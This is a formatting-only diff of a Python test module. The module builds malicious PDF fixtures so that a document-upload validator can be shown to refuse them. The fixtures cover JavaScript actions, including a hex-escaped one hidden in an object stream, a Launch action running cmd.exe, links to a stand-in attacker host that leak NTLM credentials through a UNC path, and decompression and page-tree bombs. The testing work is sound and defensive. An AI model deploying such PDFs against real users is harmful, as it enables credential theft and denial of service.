@@ -29,14 +29,20 @@ from PIL import Image
 
 from tests.files import encrypted_pdf, jpeg_bytes, pdf_bytes, png_bytes
 
-GB = 1024 ** 3
+GB = 1024**3
 
 
 # ---------------------------------------------------------------------------------- raw PDF writer
 
 
-def raw_pdf(objects: dict[int, bytes], *, root: int = 1, object_streams: tuple[tuple[int, ...], ...] = (),
-            object_stream_padding: int = 0, free_entries: int = 0) -> bytes:
+def raw_pdf(
+    objects: dict[int, bytes],
+    *,
+    root: int = 1,
+    object_streams: tuple[tuple[int, ...], ...] = (),
+    object_stream_padding: int = 0,
+    free_entries: int = 0,
+) -> bytes:
     """A PDF from hand-written object bodies (``{number: b"<< ... >>"}``), with a correct cross-reference.
 
     Each group of ``object_streams`` is packed, compressed, into one object stream and the
@@ -55,8 +61,9 @@ def raw_pdf(objects: dict[int, bytes], *, root: int = 1, object_streams: tuple[t
     if not object_streams:
         xref = len(out)
         out += b"xref\n0 %d\n0000000000 65535 f \n" % size
-        out += b"".join(b"%010d 00000 n \n" % rows[n][1] if n in rows else b"0000000000 65535 f \n"
-                        for n in range(1, size))
+        out += b"".join(
+            b"%010d 00000 n \n" % rows[n][1] if n in rows else b"0000000000 65535 f \n" for n in range(1, size)
+        )
         out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
         return bytes(out)
     for group in object_streams:
@@ -68,29 +75,43 @@ def raw_pdf(objects: dict[int, bytes], *, root: int = 1, object_streams: tuple[t
             body += objects[num] + b"\n"
         data = _deflate(header + body, object_stream_padding)
         rows[stm] = (1, len(out), 0)
-        out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
-                % (stm, len(group), len(header), len(data)) + data + b"\nendstream\nendobj\n")
+        out += (
+            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+            % (stm, len(group), len(header), len(data))
+            + data
+            + b"\nendstream\nendobj\n"
+        )
     rows[size] = (1, len(out), 0)  # the xref stream itself
     free = b"\x00" * 7 * 65536  # 65,536 free entries
     padding = free_entries // 65536 * len(free)
     entries = size + 1 + padding // 7
-    xref_data = _deflate(b"".join(struct.pack(">BIH", *rows.get(n, (0, 0, 65535))) for n in range(size + 1)),
-                         padding, free)
-    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n"
-            b"stream\n" % (size, entries, root, len(xref_data)) + xref_data
-            + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % rows[size][1])
+    xref_data = _deflate(
+        b"".join(struct.pack(">BIH", *rows.get(n, (0, 0, 65535))) for n in range(size + 1)), padding, free
+    )
+    out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n"
+        b"stream\n"
+        % (size, entries, root, len(xref_data))
+        + xref_data
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % rows[size][1]
+    )
     return bytes(out)
 
 
-def _one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", extra: dict[int, bytes] | None = None,
-              content: bytes = b"BT /F1 12 Tf 72 720 Td (Lettre) Tj ET", **kw) -> bytes:
+def _one_page(
+    catalog_extra: bytes = b"",
+    page_extra: bytes = b"",
+    extra: dict[int, bytes] | None = None,
+    content: bytes = b"BT /F1 12 Tf 72 720 Td (Lettre) Tj ET",
+    **kw,
+) -> bytes:
     """A valid one-page letter (objects 1-5) with extra catalog/page entries and objects 10+."""
     stream = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
     objects = {
         1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
-           b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
+        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
         4: stream,
         5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
         **(extra or {}),
@@ -144,32 +165,43 @@ def javascript_open_action() -> bytes:
 
 @cache
 def javascript_name_tree() -> bytes:
-    return _one_page(b"/Names << /JavaScript << /Names [(init) 10 0 R] >> >> ",
-                     extra={10: b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x'}\\)) >>"})
+    return _one_page(
+        b"/Names << /JavaScript << /Names [(init) 10 0 R] >> >> ",
+        extra={10: b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x'}\\)) >>"},
+    )
 
 
 @cache
 def javascript_in_compressed_outline() -> bytes:
     """JavaScript on a bookmark, hidden in a compressed object stream, its names hex-escaped."""
-    return _one_page(b"/Outlines 10 0 R ", extra={
-        10: b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
-        11: b"<< /Title (Ouvrir) /Parent 10 0 R /A << /#53 /Java#53cript /J#53 (app.launchURL\\('x'\\)) >> >>",
-    }, object_streams=((10, 11),))
+    return _one_page(
+        b"/Outlines 10 0 R ",
+        extra={
+            10: b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
+            11: b"<< /Title (Ouvrir) /Parent 10 0 R /A << /#53 /Java#53cript /J#53 (app.launchURL\\('x'\\)) >> >>",
+        },
+        object_streams=((10, 11),),
+    )
 
 
 @cache
 def launch_action_link() -> bytes:
-    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
+    return _one_page(
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
             b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
-    })
+        },
+    )
 
 
 @cache
 def page_open_javascript() -> bytes:
     """Additional action run when the page opens (``/AA /O``)."""
-    return _one_page(page_extra=b"/AA << /O << /S /JavaScript /JS 10 0 R >> >> ",
-                     extra={10: b"<< /Length 9 >>\nstream\napp.beep()\nendstream"})
+    return _one_page(
+        page_extra=b"/AA << /O << /S /JavaScript /JS 10 0 R >> >> ",
+        extra={10: b"<< /Length 9 >>\nstream\napp.beep()\nendstream"},
+    )
 
 
 @cache
@@ -186,9 +218,14 @@ def embedded_file() -> bytes:
 @cache
 def uri_link_and_destination() -> bytes:
     """Harmless interactivity a letter may carry: a web link and an open-at-page-1 destination."""
-    return _one_page(b"/OpenAction [3 0 R /Fit] ", page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.mrasla.ma) >> >>",
-    })
+    return _one_page(
+        b"/OpenAction [3 0 R /Fit] ",
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.mrasla.ma) "
+            b">> >>",
+        },
+    )
 
 
 # Actions that reach out. ``UNC``: a PDF literal string holding the share path \\attacker.example\share\x.pdf.
@@ -215,7 +252,9 @@ def uri_open_action() -> bytes:
 @cache
 def uri_after_goto_open_action() -> bytes:
     """A harmless-looking open action whose ``/Next`` opens an address."""
-    return _one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://attacker.example/n) >>] >> ")
+    return _one_page(
+        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://attacker.example/n) >>] >> "
+    )
 
 
 @cache
@@ -226,27 +265,37 @@ def uri_document_close_action() -> bytes:
 @cache
 def uri_on_link_hover() -> bytes:
     """A link whose additional action (mouse enters, ``/AA /E``) opens an address without a click."""
-    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://www.mrasla.ma) >> "
+    return _one_page(
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://www.mrasla.ma) >> "
             b"/AA << /E << /S /URI /URI (https://attacker.example/hover) >> >> >>",
-    })
+        },
+    )
 
 
 @cache
 def uri_shared_by_link_and_open_action() -> bytes:
     """One action object, both a link's (allowed) and the open action (not): seen once as each."""
-    return _one_page(b"/OpenAction 10 0 R ", page_extra=b"/Annots [11 0 R] ", extra={
-        10: b"<< /S /URI /URI (https://attacker.example/opened) >>",
-        11: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 10 0 R >>",
-    })
+    return _one_page(
+        b"/OpenAction 10 0 R ",
+        page_extra=b"/Annots [11 0 R] ",
+        extra={
+            10: b"<< /S /URI /URI (https://attacker.example/opened) >>",
+            11: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 10 0 R >>",
+        },
+    )
 
 
 @cache
 def goto_remote_unc_link() -> bytes:
     """A link into a PDF on a network share: Windows sends the clerk's NTLM credentials to the host."""
-    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>",
-    })
+    return _one_page(
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>",
+        },
+    )
 
 
 @cache
@@ -256,33 +305,47 @@ def goto_embedded_open_action() -> bytes:
 
 @cache
 def unc_uri_link() -> bytes:
-    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI " + UNC + b" >> >>",
-    })
+    return _one_page(
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI " + UNC + b" >> >>",
+        },
+    )
 
 
 @cache
 def file_uri_link() -> bytes:
-    return _one_page(page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (file://attacker.example/s/x) >> >>",
-    })
+    return _one_page(
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI "
+            b"(file://attacker.example/s/x) >> >>",
+        },
+    )
 
 
 @cache
 def mailto_link_and_bookmark() -> bytes:
     """Ordinary links a letter may carry: a mailto link and a bookmark to a web page."""
-    return _one_page(b"/Outlines 11 0 R ", page_extra=b"/Annots [10 0 R] ", extra={
-        10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (mailto:bo@mef.gov.ma) >> >>",
-        11: b"<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>",
-        12: b"<< /Title (Site) /Parent 11 0 R /A << /S /URI /URI (https://www.mrasla.ma) >> >>",
-    })
+    return _one_page(
+        b"/Outlines 11 0 R ",
+        page_extra=b"/Annots [10 0 R] ",
+        extra={
+            10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (mailto:bo@mef.gov.ma) >> "
+            b">>",
+            11: b"<< /Type /Outlines /First 12 0 R /Last 12 0 R /Count 1 >>",
+            12: b"<< /Title (Site) /Parent 11 0 R /A << /S /URI /URI (https://www.mrasla.ma) >> >>",
+        },
+    )
 
 
 @cache
 def thousands_of_pages(count: int = 5000) -> bytes:
     kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(count))
-    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
-               2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count}
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R >>",
+        2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
+    }
     objects.update({10 + i: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for i in range(count)})
     return raw_pdf(objects)
 
@@ -296,9 +359,13 @@ def page_count_lie(count: int = 5000) -> bytes:
 
 @cache
 def page_tree_loop() -> bytes:
-    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
-                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-                    3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>"})
+    return raw_pdf(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
+        }
+    )
 
 
 @cache
@@ -306,12 +373,14 @@ def flate_bomb_page() -> bytes:
     """A page whose content stream inflates to 1 GB (about 1 MB on the wire)."""
     bomb = _deflate(b"", GB)
     stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
-    return raw_pdf({
-        1: b"<< /Type /Catalog /Pages 2 0 R >>",
-        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
-        4: stream,
-    })
+    return raw_pdf(
+        {
+            1: b"<< /Type /Catalog /Pages 2 0 R >>",
+            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+            4: stream,
+        }
+    )
 
 
 @cache
@@ -324,9 +393,12 @@ def object_stream_bomb() -> bytes:
 def object_streams_adding_up() -> bytes:
     """Eight object streams of 12 MB each: every one under a per-stream limit, 96 MB together."""
     numbers = range(10, 18)
-    return _one_page(b"/Junk [" + b" ".join(b"%d 0 R" % n for n in numbers) + b"] ",
-                     extra={n: b"<< /N %d >>" % n for n in numbers},
-                     object_streams=tuple((n,) for n in numbers), object_stream_padding=12 << 20)
+    return _one_page(
+        b"/Junk [" + b" ".join(b"%d 0 R" % n for n in numbers) + b"] ",
+        extra={n: b"<< /N %d >>" % n for n in numbers},
+        object_streams=tuple((n,) for n in numbers),
+        object_stream_padding=12 << 20,
+    )
 
 
 @cache
@@ -339,8 +411,9 @@ def xref_stream_bomb() -> bytes:
 def many_objects(count: int = 30_000) -> bytes:
     """30,000 tiny objects, all reachable from the catalogue."""
     numbers = range(10, 10 + count)
-    return _one_page(b"/Junk [" + b" ".join(b"%d 0 R" % n for n in numbers) + b"] ",
-                     extra={n: b"[%d]" % n for n in numbers})
+    return _one_page(
+        b"/Junk [" + b" ".join(b"%d 0 R" % n for n in numbers) + b"] ", extra={n: b"[%d]" % n for n in numbers}
+    )
 
 
 @cache
@@ -359,7 +432,7 @@ def jpeg_pixel_bomb() -> bytes:
     """A real JPEG whose frame header is patched to 65,000 × 65,000 pixels."""
     data = bytearray(jpeg_bytes((64, 64)))
     sof = data.find(b"\xff\xc0")
-    data[sof + 5: sof + 9] = struct.pack(">HH", 65_000, 65_000)
+    data[sof + 5 : sof + 9] = struct.pack(">HH", 65_000, 65_000)
     return bytes(data)
 
 
@@ -483,8 +556,9 @@ CASES: tuple[Case, ...] = (
     _refused("uri-next-of-open-action", "lettre.pdf", uri_after_goto_open_action, "error.pdf_active_content"),
     _refused("uri-document-close", "lettre.pdf", uri_document_close_action, "error.pdf_active_content"),
     _refused("uri-link-hover", "lettre.pdf", uri_on_link_hover, "error.pdf_active_content"),
-    _refused("uri-shared-link-open-action", "lettre.pdf", uri_shared_by_link_and_open_action,
-             "error.pdf_active_content"),
+    _refused(
+        "uri-shared-link-open-action", "lettre.pdf", uri_shared_by_link_and_open_action, "error.pdf_active_content"
+    ),
     _refused("gotor-unc-link", "lettre.pdf", goto_remote_unc_link, "error.pdf_active_content"),
     _refused("gotoe-open-action", "lettre.pdf", goto_embedded_open_action, "error.pdf_active_content"),
     _refused("unc-uri-link", "lettre.pdf", unc_uri_link, "error.pdf_active_content"),
